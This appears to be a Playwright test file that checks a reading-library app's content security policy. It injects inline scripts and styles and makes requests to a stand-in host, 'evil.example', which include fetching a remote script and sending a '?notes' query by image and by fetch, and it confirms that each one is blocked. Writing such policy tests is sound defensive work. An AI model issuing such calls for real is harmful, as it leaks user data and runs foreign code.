import { sampleTitles } from '../fixtures/sample-listing';
import { expect, test } from './support/fixtures';

test('draws the plots with their style, within the policy', async ({
  papershelf,
  openSampleListing,
  openLibrary,
}) => {
  const listing = await openSampleListing();
  await listing.save(sampleTitles[0]);
  const { page } = await openLibrary();
  await page.goto(papershelf.url('library.html#/reading'));
  const plot = page.locator('.plot svg').first();
  await expect(plot.locator('text').first()).toHaveCSS('white-space-collapse', 'preserve');
  await expect(plot).toHaveCSS('display', 'block');
  expect(papershelf.policyViolations).toEqual([]);
});

test('loads and runs nothing else, and reports it to the tests', async ({
  papershelf,
  openLibrary,
}) => {
  const { page } = await openLibrary();
  const attempts = {
    'an inline style': () => {
      const style = document.createElement('style');
      style.textContent = 'body { color: red }';
      document.head.append(style);
    },
    'an inline script': () => {
      const script = document.createElement('script');
      script.textContent = 'globalThis.ran = true';
      document.head.append(script);
    },
    'a script of another host': () => {
      const script = document.createElement('script');
      script.src = 'https://evil.example/x.js';
      document.head.append(script);
    },
    'an image of another host': () => {
      new Image().src = 'https://evil.example/?notes';
    },
    'a request to another host': () => {
      void fetch('https://evil.example/?notes').catch(() => undefined);
    },
    'a frame of another host': () => {
      const frame = document.createElement('iframe');
      frame.src = 'https://evil.example/';
      document.body.append(frame);
    },
  };
  for (const [name, attempt] of Object.entries(attempts)) {
    await page.evaluate(attempt);
    await expect.poll(() => papershelf.policyViolations.length, name).toBeGreaterThan(0);
    papershelf.policyViolations.length = 0;
  }
  expect(await page.evaluate(() => Reflect.get(globalThis, 'ran'))).toBeUndefined();
});

test('holds for the background too', async ({ context, papershelf }) => {
  const [worker] = context.serviceWorkers();
  const refused = await worker!.evaluate(() =>
    fetch('https://evil.example/?notes').then(
      () => false,
      () => true,
    ),
  );
  expect(refused).toBe(true);
  papershelf.policyViolations.length = 0;
});
